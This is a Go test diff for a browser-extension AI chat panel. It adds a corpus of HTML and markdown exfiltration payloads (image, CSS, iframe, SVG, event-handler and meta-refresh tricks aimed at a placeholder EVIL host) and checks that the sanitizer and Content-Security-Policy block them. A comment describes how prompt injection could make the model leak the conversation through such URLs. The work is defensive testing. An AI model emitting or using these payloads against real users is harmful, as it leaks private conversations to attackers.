@@ -201,3 +201,105 @@ func TestXSSCorpusNeverExecutes(t *testing.T) {
 		t.Errorf("user text became %d images", n)
 	}
 }
+
+// exfilCorpus is model output that tries to make the panel fetch a URL by itself (each EVIL
+// becomes the address of a server that counts what reaches it): a page that steers the model
+// could leak the conversation in that URL.
+var exfilCorpus = []string{
+	`![x](EVIL/md-image?c=secret)`,
+	"![ref][r]\n\n[r]: EVIL/md-ref-image",
+	`<img src="EVIL/img">`,
+	`<img srcset="EVIL/srcset 1x, EVIL/srcset2 2x">`,
+	`<img lowsrc="EVIL/lowsrc" dynsrc="EVIL/dynsrc" src="x.png">`,
+	`<picture><source srcset="EVIL/source"><img src="EVIL/picture"></picture>`,
+	`<table background="EVIL/table-bg"><tr><td background="EVIL/td-bg">cell</td></tr></table>`,
+	`<body background="EVIL/body-bg">body</body>`,
+	`<marquee background="EVIL/marquee">x</marquee>`,
+	`<div style="background:url(EVIL/css-url)">styled</div>`,
+	`<div style="list-style-image:url('EVIL/list-image')">x</div>`,
+	`<style>@import "EVIL/import"; p { background: url(EVIL/style-url) }</style><p>p</p>`,
+	`<link rel="stylesheet" href="EVIL/link-css">`,
+	`<link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/preload"><link rel="icon" href="EVIL/icon">`,
+	`<meta http-equiv="refresh" content="0;url=EVIL/refresh">`,
+	"<base href=\"EVIL/base/\">\n\n![relative](rel.png) [relative link](rel.html)",
+	`<iframe src="EVIL/iframe"></iframe>`,
+	`<iframe srcdoc="<img src=EVIL/srcdoc>"></iframe>`,
+	`<frameset><frame src="EVIL/frame"></frameset>`,
+	`<object data="EVIL/object"></object><embed src="EVIL/embed">`,
+	`<video poster="EVIL/poster" src="EVIL/video"><track src="EVIL/track"></video>`,
+	`<audio src="EVIL/audio" autoplay></audio>`,
+	`<input type="image" src="EVIL/input-image">`,
+	`<a ping="EVIL/ping" href="https://ok.example/">a link with ping</a>`,
+	`<form action="EVIL/form"><button formaction="EVIL/formaction">go</button></form>`,
+	`<script src="EVIL/script"></script>`,
+	`<svg><image href="EVIL/svg-image"/><use href="EVIL/svg-use#x"/><style>@import url(EVIL/svg-style)</style></svg>`,
+	`<svg><feImage xlink:href="EVIL/feimage"/></svg>`,
+	`<math><mglyph src="EVIL/mglyph"/><maction actiontype="statusline" xlink:href="EVIL/maction">m</maction></math>`,
+	`<img src=x onerror="fetch('EVIL/onerror')">`,
+	`<details open ontoggle="fetch('EVIL/ontoggle')">toggle</details>`,
+	`<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='EVIL/data-svg'/%3E%3C/svg%3E">`,
+	`<portal src="EVIL/portal"></portal>`,
+	`<div data-src="EVIL/data-src" data-background="EVIL/data-bg">lazy-load bait</div>`,
+	`<blockquote cite="EVIL/cite">quote</blockquote><q cite="EVIL/q">q</q>`,
+	`<a href="EVIL/link?c=secret">a plain link: fetched only if the user clicks</a>`,
+}
+
+// TestExfiltrationCorpusLoadsNothing renders replies that try to make the panel fetch an
+// address: through the sanitizer alone (on a page without a Content-Security-Policy), then
+// through the real chat in the panel (sanitizer and CSP). No request may reach the server.
+// Then the second wall alone: markup inserted raw into the panel, past the sanitizer, still
+// fetches nothing, because the extension pages' CSP allows images, media, frames and styles
+// only from the extension; the same markup on a page without that CSP does fetch (the
+// counting server sees it), which shows the count can fail.
+func TestExfiltrationCorpusLoadsNothing(t *testing.T) {
+	site := testkit.NewSite(t)
+	corpus := make([]string, len(exfilCorpus))
+	for i, p := range exfilCorpus {
+		corpus[i] = strings.ReplaceAll(p, "EVIL", site.Evil)
+	}
+
+	page := browser.Tab(t, rendererPage(t))
+	WaitJS(t, page, `typeof skiffTest === "object"`)
+	for _, p := range corpus {
+		JS[bool](t, page, fmt.Sprintf(`(() => { const d = document.createElement("div"); d.append(skiffTest.markdown.render(%s)); document.body.append(d); return true })()`, jsString(p)))
+	}
+	time.Sleep(time.Second)
+	if hits := site.EvilHits(); len(hits) > 0 {
+		t.Errorf("the sanitizer let %d requests out: %v", len(hits), hits)
+	}
+	seen := len(site.EvilHits())
+
+	tab := browser.Panel(t)
+	var all strings.Builder
+	for i, p := range corpus {
+		fmt.Fprintf(&all, "Reply %d:\n\n%s\n\n", i+1, p)
+	}
+	srv := testkit.OpenAIText(t, all.String(), 17, time.Millisecond)
+	Configure(t, tab, "openai", srv.URL, "sk-exfil", "gpt-test")
+	SendMessage(t, tab, "show me")
+	WaitJS(t, tab, lastAssistant+`?.dataset.status === "done"`)
+	time.Sleep(time.Second)
+	if hits := site.EvilHits()[seen:]; len(hits) > 0 {
+		t.Errorf("the panel let %d requests out: %v", len(hits), hits)
+	}
+	seen = len(site.EvilHits())
+	if n := JS[int](t, tab, `document.querySelectorAll('#messages a.img-link').length`); n < 3 {
+		t.Errorf("only %d images became links", n)
+	}
+
+	// The second wall: raw markup in the panel, no sanitizer.
+	raw := strings.ReplaceAll(`<img src="EVIL/raw-img"><table background="EVIL/raw-bg"><tr><td>t</td></tr></table><div style="background:url(EVIL/raw-css)">d</div><iframe src="EVIL/raw-iframe"></iframe><video poster="EVIL/raw-poster"></video><link rel="stylesheet" href="EVIL/raw-link">`, "EVIL", site.Evil)
+	JS[bool](t, tab, `(() => { window.__blocked = []; document.addEventListener("securitypolicyviolation", (e) => window.__blocked.push(e.blockedURI)); return true })()`)
+	JS[bool](t, tab, fmt.Sprintf(`(() => { const d = document.createElement("div"); d.innerHTML = %s; document.getElementById("messages").append(d); return true })()`, jsString(raw)))
+	time.Sleep(time.Second)
+	if hits := site.EvilHits()[seen:]; len(hits) > 0 {
+		t.Errorf("the panel's CSP let %d requests out: %v", len(hits), hits)
+	}
+	seen = len(site.EvilHits())
+	if n := len(JS[[]string](t, tab, `window.__blocked`)); n < 4 {
+		t.Errorf("the CSP reported %d blocked loads, want at least 4", n)
+	}
+	// Control: without the CSP, the same markup is fetched and counted.
+	JS[bool](t, page, fmt.Sprintf(`(() => { const d = document.createElement("div"); d.innerHTML = %s; document.body.append(d); return true })()`, jsString(raw)))
+	Eventually(t, 5*time.Second, func() bool { return len(site.EvilHits()) >= seen+3 }, "the counting server saw nothing from raw markup on a page without the CSP")
+}
